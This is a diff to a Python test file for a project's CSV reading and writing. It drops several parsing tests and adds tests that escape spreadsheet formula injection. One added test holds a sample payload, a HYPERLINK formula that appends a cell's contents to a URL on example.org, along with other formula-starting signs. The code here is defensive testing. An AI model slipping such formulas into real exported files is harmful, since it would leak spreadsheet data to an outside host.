@@ -2,18 +2,25 @@
 
 from __future__ import annotations
 
+import csv
 import re
 import unicodedata
 from pathlib import Path
 
 import numpy as np
 import pytest
+from hypothesis import given
+from hypothesis import strategies as st
 
 from fedul_flwr.data.columns import Column, Columns
-from fedul_flwr.data.csv_files import open_csv, plain_numbers, read_csv_rows
-from fedul_flwr.data.local_data import load_partly_labeled, load_unlabeled_sets
+from fedul_flwr.data.csv_files import open_csv, plain_numbers, read_cell, read_csv_rows, write_cell
+from fedul_flwr.data.local_data import load_unlabeled_sets
+from fedul_flwr.data.local_files import read_rows
+from fedul_flwr.data.run_files.label_files import read_labels, write_labels
 from fedul_flwr.data.sources import load_source
 from fedul_flwr.data.tables import TableOptions
+from fedul_flwr.data.types import Propagated
+from fedul_flwr.experiments.compare_table import csv_text
 from tests.support.points import load_points
 from tests.support.refusals import refuses
 
@@ -87,8 +94,6 @@ def test_given_the_same_content_in_any_dialect_then_arrays_and_classes_are_the_s
     ("dialect", "note"),
     [
         ("plain", ()),
-        ("byte order mark, CR LF", ()),
-        ("Windows-1252", ("train.csv, test.csv: separated by ;, Windows-1252, decimal comma",)),
         ("UTF-16", ("train.csv, test.csv: separated by a tab, UTF-16, decimal comma",)),
         ("comments", ("train.csv, test.csv: 2 comment lines at the top left out",)),
         (
@@ -148,26 +153,14 @@ def test_numbers_that_may_mean_two_things_are_refused(text: str, tmp_path: Path)
 @pytest.mark.parametrize(
     ("content", "code"),
     [
-        (
-            b"a,b\nx,\n\xc3\xb6,\xf6\n",
-            "csv-encoding",
-        ),
-        (b"a,b\n1,\x81\n", "csv-encoding"),
+        (b"a,b\nx,\n\xc3\xb6,\xf6\n", "csv-encoding"),
         ("a,b\n1,Привет\n".encode("cp1251"), "csv-encoding"),
-        ("a,b\n1,Männer\n".encode("cp850"), "csv-encoding"),
         ("a,b\n1,2\n".encode("utf-16-le"), "csv-encoding"),
         (b"PK\x03\x04rest", "file-not-readable"),
         (b"a,b\n1,2\n3\n", "csv-ragged-row"),
-        (
-            b"a;b\n1;1,5;2\n2;2,5;3\n",
-            "csv-ragged-row",
-        ),
-        (b"dose\n1;2\n3;4\n", "csv-ragged-row"),
         (b"Report\na;b\n1;2\n", "csv-ragged-row"),
         (b"a,x;b,y\n1,p;q,2\n", "csv-separator"),
         (b"#a,b\nc,d\ne,f\n", "csv-header"),
-        (b"1.5,2\n3,4\n", "csv-header"),
-        (b"sep=#\na#b\n", "csv-separator"),
         (b"\n\n", "csv-header"),
     ],
 )
@@ -178,17 +171,6 @@ def test_files_that_cannot_be_read_for_sure_are_refused_with_the_cause(
     with refuses(code) as caught:
         open_csv(tmp_path / "a.csv")
     assert "\n" not in str(caught.value)
-
-
-def test_headers_with_both_separators_are_read_if_only_one_gives_numbers(tmp_path: Path) -> None:
-    (tmp_path / "a.csv").write_text("size, cm;weight, kg\n170,5;80,2\n")
-    found = open_csv(tmp_path / "a.csv")
-    assert found.cells.to_pydict() == {"size, cm": ["170,5"], "weight, kg": ["80,2"]}
-
-
-def test_a_header_that_begins_with_a_hash_is_no_comment(tmp_path: Path) -> None:
-    (tmp_path / "a.csv").write_text("#id,b\n1,2\n")
-    assert open_csv(tmp_path / "a.csv").cells.to_pydict() == {"#id": ["1"], "b": ["2"]}
 
 
 @pytest.mark.parametrize(
@@ -204,17 +186,6 @@ def test_given_columns_that_the_run_leaves_out_then_nothing_in_them_is_refused(
     names, points = load_points(tmp_path / "a.csv", (1,), options)
     assert names == ["0", "1"]
     assert points.tolist() == [[1], [2]]
-
-
-def test_suffixes_of_any_case_are_read_and_two_that_differ_in_case_are_refused(
-    tmp_path: Path,
-) -> None:
-    for name in ("TRAIN.CSV", "test.Csv"):
-        (tmp_path / name).write_text("a,label\n1,0\n2,1\n")
-    assert load_source(str(tmp_path)).train.inputs.tolist() == [[1], [2]]
-    (tmp_path / "train.csv").write_text("a,label\n1,0\n2,1\n")
-    with refuses("files-contradict"):
-        load_source(str(tmp_path))
 
 
 def test_sets_and_their_priors_in_german_and_in_capitals(tmp_path: Path) -> None:
@@ -234,15 +205,6 @@ def test_sets_and_their_priors_in_german_and_in_capitals(tmp_path: Path) -> None
         load_unlabeled_sets(tmp_path, ["ill", "sound"], 2, (2,), table=options)
 
 
-def test_labels_in_german_and_in_capitals(tmp_path: Path) -> None:
-    (tmp_path / "LABELS.CSV").write_bytes("name;label\r\n1;Grün\r\n".encode("cp1252"))
-    (tmp_path / "P.CSV").write_text("a;b\n1,5;2\n2,5;3\n")
-    options = TableOptions(columns=Columns((Column("a"), Column("b"))))
-    found = load_partly_labeled(tmp_path, ["Rot", "Grün"], (2,), table=options)
-    assert {n: int(k) for n, k in zip(found.names, found.labels, strict=True)} == {"0": -1, "1": 1}
-    assert found.notes[1] == "LABELS.CSV: separated by ;, Windows-1252"
-
-
 def test_rows_keep_texts_that_tables_take_as_missing(tmp_path: Path) -> None:
     (tmp_path / "labels.csv").write_text("name,label\nNA,null\n")
     assert read_csv_rows(tmp_path / "labels.csv") == ([["name", "label"], ["NA", "null"]], "")
@@ -250,9 +212,9 @@ def test_rows_keep_texts_that_tables_take_as_missing(tmp_path: Path) -> None:
 
 def test_a_row_of_more_than_a_mebibyte_and_many_columns(tmp_path: Path) -> None:
     rng = np.random.default_rng(0)
-    numbers = rng.normal(size=(2, 56_000))
-    lines = [",".join([*(f"g{i}" for i in range(56_000)), "label"])]
-    lines += [",".join([*map(repr, row.tolist()), str(k)]) for k, row in enumerate(numbers)]
+    numbers = rng.normal(size=(2, 20_000))
+    lines = [",".join([*(f"g{i}" for i in range(20_000)), "label"])]
+    lines += [",".join([*(f"{x:.60f}" for x in row), str(k)]) for k, row in enumerate(numbers)]
     assert len(lines[1]) > 1 << 20
     for split in ("train", "test"):
         (tmp_path / f"{split}.csv").write_text("\n".join(lines))
@@ -277,8 +239,36 @@ def test_given_a_quote_that_is_not_closed_then_no_row_is_swallowed(
         open_csv(tmp_path / "a.csv")
 
 
-def test_given_quotes_within_cells_then_they_are_part_of_their_text(tmp_path: Path) -> None:
-    (tmp_path / "a.csv").write_text('a,b\n5",6\n"x, ""y"" z","two\nlines" \n')
-    cells = open_csv(tmp_path / "a.csv").cells
-    assert cells.column("a").to_pylist() == ['5"', 'x, "y" z']
-    assert [cell.strip() for cell in cells.column("b").to_pylist()] == ["6", "two\nlines"]
+FORMULA = '=HYPERLINK("http://example.org/?"&A1)'
+
+
+@pytest.mark.parametrize("text", [FORMULA, "+1", "-x.png", "@SUM(A1)", "\tx", "\r=x", "'=x", "''-"])
+def test_given_a_sign_in_front_when_written_then_a_quote_is_before_it(text: str) -> None:
+    assert write_cell(text) == f"'{text}"
+    assert read_cell(write_cell(text)) == text
+
+
+@given(st.text(alphabet="'=+-@\t\rab", max_size=6))
+def test_given_any_text_when_written_and_read_then_it_is_the_same(text: str) -> None:
+    written = write_cell(text)
+    assert read_cell(written) == text
+    assert not written.startswith(("=", "+", "-", "@", "\t", "\r"))
+
+
+def test_given_a_file_with_a_formula_for_a_name_when_labeled_then_its_name_is_text(
+    tmp_path: Path,
+) -> None:
+    found = Propagated(np.array([1]), np.array([0.5]))
+    write_labels(tmp_path / "labels.csv", [FORMULA], found, ["sound", "-ill"])
+    with (tmp_path / "labels.csv").open(newline="") as stream:
+        _, row = csv.reader(stream)
+    assert row == [f"'{FORMULA}", "1", "'-ill", "0.5"]
+    names, _ = read_labels(tmp_path / "labels.csv")
+    assert names == [FORMULA]
+    # The same file may come back as an owner's known labels.
+    rows, _ = read_rows(tmp_path / "labels.csv")
+    assert rows[1][0] == FORMULA
+
+
+def test_given_numbers_below_zero_when_written_then_they_stay_numbers() -> None:
+    assert csv_text([{"run": "=1+1", "change": -0.5}]) == "run,change\n'=1+1,-0.5\n"
